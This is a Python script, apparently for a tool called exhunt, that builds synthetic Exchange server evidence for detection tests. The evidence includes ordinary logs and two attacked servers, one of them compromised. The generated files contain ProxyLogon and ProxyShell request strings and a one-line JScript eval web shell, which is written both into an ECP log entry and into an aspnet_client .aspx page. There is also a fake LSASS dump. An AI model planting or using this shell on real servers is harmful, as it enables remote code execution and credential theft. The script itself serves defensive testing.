#!/usr/bin/env python3
"""Writes the example evidence of `exhunt check` (examples/check/), or the
same servers under another folder for the tests:

    tools/make-check-examples.py [OUT]      (default: examples/check)

Four small servers, written for exhunt (nothing comes from a real server);
the shapes follow Exchange's own logs (HttpProxy, ECP Server, IIS W3C) as
the public reports show them (../shared/docs/detections.md):

  mail10  Exchange SE, patched, mounted-volume layout, ordinary traffic only
  mail11  Exchange 2016 CU19 without updates, ordinary traffic only
  mail12  Exchange SE, patched, probed: ProxyLogon / ProxyShell requests that
          failed, a request for a shell page that is not there
  mail13  Exchange 2016 CU19, a KAPE target collection (the drive as C/):
          ProxyLogon SSRF (241), the OAB virtual directory reset, the ECP log
          line that wrote the script, the shell on disk in aspnet_client,
          later requests to it from another address, an LSASS dump in
          Windows\\Temp

The ExSetup.exe files are copies of the look-alikes in examples/servers
(built from tests/fixtures/pe, see its README).
"""
import calendar
import os
import shutil
import sys
import time

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
EXSETUP = {  # the installed builds
    'se': os.path.join(ROOT, 'examples/servers/mail02/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe'),
    'cu19': os.path.join(ROOT, 'examples/servers/mail01/Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe'),
}
VERSION = {'se': (15, 2, 2562, 37), 'cu19': (15, 1, 2176, 2)}
V15 = 'Program Files/Microsoft/Exchange Server/V15'

HP_FIELDS = ('DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,'
             'Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,'
             'Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,'
             'ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,'
             'BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,'
             'TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,'
             'CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,'
             'TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,'
             'SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,'
             'ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,'
             'BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,'
             'BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,'
             'HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,'
             'CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,'
             'BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,'
             'PartitionEndpointLookupLatency,RoutingStatus').split(',')


def csv_cell(v):
    v = str(v)
    if any(c in v for c in ',"\n'):
        return '"' + v.replace('"', '""') + '"'
    return v


def write(path, text, mode='w'):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, mode, **({} if 'b' in mode else {'newline': ''})) as f:
        f.write(text)


def httpproxy(path, host, ver, day, rows):
    """rows: (time, protocol, stem, anchor, agent, ip, status, method, user)"""
    v = VERSION[ver]
    out = ['#Software: Microsoft Exchange Server',
           '#Version: %02d.%02d.%04d.%03d' % v,
           '#Log-type: HttpProxy Logs',
           '#Date: %sT00:00:00.000Z' % day,
           '#Fields: ' + ','.join(HP_FIELDS)]
    for i, (t, proto, stem, anchor, agent, ip, status, method, user) in enumerate(rows):
        rec = dict.fromkeys(HP_FIELDS, '')
        rec.update({
            'DateTime': '%sT%s.000Z' % (day, t), 'RequestId': '4d1e%04d-0000-4000-8000-%012d' % (i, i),
            'MajorVersion': v[0], 'MinorVersion': v[1], 'BuildVersion': v[2], 'RevisionVersion': v[3],
            'Protocol': proto, 'UrlHost': 'mail.contoso.example', 'UrlStem': stem,
            'AuthenticationType': 'Negotiate' if user else '', 'IsAuthenticated': 'true' if user else 'false',
            'AuthenticatedUser': user, 'AnchorMailbox': anchor, 'UserAgent': agent,
            'ClientIpAddress': ip, 'ServerHostName': host.upper(), 'HttpStatus': status,
            'BackEndStatus': status, 'Method': method, 'ProxyAction': 'Proxy',
            'TargetServer': host + '.contoso.example', 'TargetServerVersion': '%02d.%02d.%04d.%03d' % v,
            'RoutingType': 'ServerInfo' if anchor.startswith('ServerInfo~') else 'Smtp',
            'GenericInfo': 'BeginRequest=%sT%s.000Z;' % (day, t)})
        out.append(','.join(csv_cell(rec[f]) for f in HP_FIELDS))
    write(path, '\r\n'.join(out) + '\r\n')


def iis(path, day, rows):
    """rows: (time, method, stem, query, user, ip, agent, status)"""
    out = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0',
           '#Date: %s 00:00:00' % day,
           '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip '
           'cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken']
    for t, method, stem, query, user, ip, agent, status in rows:
        out.append(' '.join([day, t, '10.0.0.5', method, stem, query or '-', '443', user or '-', ip,
                             agent.replace(' ', '+'), '-', str(status), '0', '0', '15']))
    write(path, '\r\n'.join(out) + '\r\n')


OWA_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'


def ordinary(day):
    """An office morning: OWA logons, ECP, ActiveSync; no rule may fire."""
    hp = [('07:58:10', 'Owa', '/owa/', 'SMTP:alice@contoso.example', OWA_AGENT, '10.0.4.21', 200, 'GET', 'CONTOSO\\alice'),
          ('08:02:41', 'Ecp', '/ecp/default.aspx', 'SMTP:admin@contoso.example', OWA_AGENT, '10.0.4.9', 200, 'GET', 'CONTOSO\\admin'),
          ('08:15:03', 'Eas', '/Microsoft-Server-ActiveSync/default.eas', 'SMTP:bob@contoso.example', 'Apple-iPhone13C2/2004.77', '10.0.9.14', 200, 'POST', 'CONTOSO\\bob'),
          ('08:20:00', 'Autodiscover', '/autodiscover/autodiscover.xml', 'SMTP:carol@contoso.example', 'Microsoft Office/16.0', '10.0.4.33', 200, 'POST', 'CONTOSO\\carol')]
    ii = [('07:58:09', 'GET', '/owa/auth/logon.aspx', 'url=https%3a%2f%2fmail.contoso.example%2fowa%2f&reason=0', '', '10.0.4.21', OWA_AGENT, 200),
          ('07:58:10', 'POST', '/owa/auth.owa', '', '', '10.0.4.21', OWA_AGENT, 302),
          ('07:58:12', 'GET', '/owa/', '', 'CONTOSO\\alice', '10.0.4.21', OWA_AGENT, 200),
          ('08:02:40', 'GET', '/ecp/default.aspx', '', 'CONTOSO\\admin', '10.0.4.9', OWA_AGENT, 200),
          ('08:30:00', 'GET', '/ecp/auth/TimeoutLogoff.aspx', '', '', '10.0.4.9', OWA_AGENT, 200)]
    return hp, ii


def install(base, ver, day, hp_rows, iis_rows, kape=False):
    vol = os.path.join(base, 'C') if kape else base
    v15 = os.path.join(vol, V15)
    os.makedirs(os.path.join(v15, 'Bin'), exist_ok=True)
    shutil.copyfile(EXSETUP[ver], os.path.join(v15, 'Bin', 'ExSetup.exe'))
    stamp = day.replace('-', '')
    httpproxy(os.path.join(v15, 'Logging/HttpProxy/Owa/HttpProxy_%s07-1.LOG' % stamp), base.rstrip('/').split('/')[-1],
              ver, day, hp_rows)
    iis(os.path.join(vol, 'inetpub/logs/LogFiles/W3SVC1/u_ex%s.log' % stamp[2:]), day, iis_rows)
    write(os.path.join(v15, 'FrontEnd/HttpProxy/owa/auth/logon.aspx'),
          '<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\r\n'
          '<!DOCTYPE html><html><head><title>Outlook</title></head><body><form action="/owa/auth.owa" method="POST">'
          '<input name="username"><input name="password" type="password"></form></body></html>\r\n')
    write(os.path.join(v15, 'FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx'),
          '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.TimeoutLogoutPage" %>\r\n')
    write(os.path.join(vol, 'inetpub/wwwroot/iisstart.htm'),
          '<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body></body></html>\r\n')
    write(os.path.join(vol, 'Windows/Temp/vminst.log'), 'VMware Tools installation log\r\n')
    return vol, v15


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, 'examples/check')
    for name in ('mail10', 'mail11', 'mail12', 'mail13'):
        shutil.rmtree(os.path.join(out, name), ignore_errors=True)

    day = '2026-11-10'
    hp, ii = ordinary(day)
    install(os.path.join(out, 'mail10'), 'se', day, hp, ii)

    day = '2021-02-26'
    hp, ii = ordinary(day)
    install(os.path.join(out, 'mail11'), 'cu19', day, hp, ii)

    day = '2026-11-12'
    hp, ii = ordinary(day)
    hp += [('03:12:44', 'Ecp', '/ecp/x.js', 'ServerInfo~a]@mail12.contoso.example:444/ecp/proxyLogon.ecp?#',
            'python-requests/2.31.0', '198.51.100.23', 500, 'POST', ''),
           ('03:12:45', 'Ecp', '/ecp/x.js', 'ServerInfo~a]@mail12.contoso.example:444/ecp/proxyLogon.ecp?#',
            'python-requests/2.31.0', '198.51.100.23', 500, 'POST', '')]
    ii += [('03:13:02', 'GET', '/autodiscover/autodiscover.json',
            '@zdi/Powershell?X-Rps-CAT=&Email=autodiscover/autodiscover.json%3F@zdi', '', '198.51.100.23',
            'python-requests/2.31.0', 401),
           ('03:13:09', 'GET', '/owa/auth/errorEE.aspx', 'cmd=whoami', '', '198.51.100.24', 'Mozilla/5.0', 404)]
    install(os.path.join(out, 'mail12'), 'se', day, hp, ii)

    day = '2021-03-03'
    hp, ii = ordinary(day)
    hp += [('06:21:03', 'Ecp', '/ecp/y.js', 'ServerInfo~a]@mail13.contoso.example:444/ecp/proxyLogon.ecp?#',
            'python-requests/2.25.1', '203.0.113.77', 241, 'POST', ''),
           ('06:44:20', 'Ecp', '/ecp/y.js',
            'ServerInfo~a]@mail13.contoso.example:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#',
            'python-requests/2.25.1', '203.0.113.77', 200, 'POST', '')]
    ii += [('07:30:12', 'POST', '/aspnet_client/system_web/xpy07b5a.aspx', '', '', '192.0.2.55',
            'antSword/v2.1', 200),
           ('07:31:40', 'POST', '/aspnet_client/system_web/xpy07b5a.aspx', '', '', '192.0.2.55',
            'antSword/v2.1', 200)]
    vol, v15 = install(os.path.join(out, 'mail13'), 'cu19', day, hp, ii, kape=True)
    write(os.path.join(v15, 'Logging/ECP/Server/ECPServer20210303-1.LOG'),
          '#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n'
          '#Date: 2021-03-03T00:00:01.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n'
          '2021-03-03T06:44:21.500Z,MAIL13,ECP.Request,"S:TIME=190;S:SID=77ab;\'S:CMD=Set-OabVirtualDirectory'
          '.ExternalUrl=\'\'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval('
          'Request[""k""],""unsafe"");}</script>\'\'.Identity=\'\'5e1f0c2a-0000-4000-8000-000000000013\'\'\';'
          'S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:RS=0;S:BLD=15.1.2176.2"\r\n'
          '2021-03-03T06:44:40.000Z,MAIL13,ECP.Request,"S:TIME=88;S:SID=77ac;\'S:CMD=Set-OabVirtualDirectory'
          '.ExternalUrl=\'\'https://mail.contoso.example/OAB\'\'.Identity=\'\'5e1f0c2a-0000-4000-8000-000000000013\'\'\';'
          'S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:RS=0;S:BLD=15.1.2176.2"\r\n')
    # The reset OAB directory's settings written out under a page name
    # (CISA AR21-084A describes the file), with the script in ExternalUrl.
    write(os.path.join(vol, 'inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx'),
          'Name                            : OAB (Default Web Site)\r\n'
          'PollInterval                    : 480\r\n'
          'OfflineAddressBooks             : \r\n'
          'RequireSSL                      : True\r\n'
          'InternalUrl                     : https://mail13.contoso.example/OAB\r\n'
          'ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load()'
          '{eval(Request["k"],"unsafe");}</script>\r\n')
    # A minidump header (MDMP) and the process name, as procdump writes it.
    write(os.path.join(vol, 'Windows/Temp/lsass.dmp'),
          b'MDMP\x93\xa7\x00\x00' + b'\x00' * 56 + 'C:\\Windows\\System32\\lsass.exe'.encode('utf-16-le') +
          b'\x00' * 64, 'wb')
    set_times(out)
    return 0


# When each file was last written on its server. git keeps no file times, so
# the times are also written to examples/check-times.tsv for scripts/demo to
# put back after a checkout (otherwise the shell and the dump would seem
# written at checkout time, and the incident would last until today).
SPECIAL_TIMES = {
    'mail13/C/inetpub/wwwroot/aspnet_client/system_web/xpy07b5a.aspx': '2021-03-03T06:44:22Z',
    'mail13/C/Windows/Temp/lsass.dmp': '2021-03-03T07:52:10Z',
}
SERVER_DAY = {'mail10': '2026-11-10', 'mail11': '2021-02-26', 'mail12': '2026-11-12', 'mail13': '2021-03-03'}


def set_times(out):
    rows = []
    for server, day in sorted(SERVER_DAY.items()):
        for d, _, names in sorted(os.walk(os.path.join(out, server))):
            for n in sorted(names):
                rel = os.path.relpath(os.path.join(d, n), out).replace(os.sep, '/')
                # Installed files are older than the logs; logs end the day.
                default = ('2020-12-15T10:00:00Z' if '/Bin/' in rel or rel.endswith('.aspx') or rel.endswith('.htm')
                           else day + 'T23:59:00Z')
                t = SPECIAL_TIMES.get(rel, default)
                secs = calendar.timegm(time.strptime(t, '%Y-%m-%dT%H:%M:%SZ'))
                os.utime(os.path.join(d, n), (secs, secs))
                rows.append('%s\t%s\n' % (t, rel))
    if os.path.abspath(out) == os.path.join(ROOT, 'examples/check'):
        with open(os.path.join(ROOT, 'examples/check-times.tsv'), 'w') as f:
            f.write('# mtime (UTC)\tfile under examples/check: written by tools/make-check-examples.py\n')
            f.writelines(rows)


if __name__ == '__main__':
    sys.exit(main())
